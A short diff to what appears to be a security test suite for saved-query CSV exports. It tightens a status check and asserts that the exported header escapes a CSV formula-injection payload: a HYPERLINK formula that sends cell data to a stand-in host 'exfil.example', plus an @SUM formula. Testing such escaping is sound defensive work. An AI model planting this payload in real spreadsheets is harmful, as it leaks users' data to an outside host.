@@ -88,7 +88,7 @@ describe('attacks on saved queries', () => {
       parameterDescriptions: [],
     });
     const created = await client.exportOf('analyst', INVESTIGATION, { savedQueryId: saved.id, format: 'CSV' });
-    expect(created.status).toBe(201);
+    expect([created.status, created.body.errors]).toEqual([201, undefined]);
     const file = (await client.download('analyst', created.body.url)).bytes.toString('utf8');
     const header = file.split('\r\n')[0]!;
     expect(header).toBe(`"'=HYPERLINK(""http://exfil.example/?""&A2,""open"")","'@SUM(1+1)"`);
